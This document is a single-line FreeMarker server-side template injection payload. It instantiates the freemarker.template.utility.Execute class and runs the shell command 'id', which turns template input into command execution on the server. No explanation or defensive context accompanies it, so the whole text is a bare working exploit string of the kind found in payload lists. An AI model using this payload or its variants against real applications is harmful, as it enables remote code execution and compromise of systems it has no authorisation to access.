<#assign exec = "freemarker.template.utility.Execute"?new()>${exec("id")}
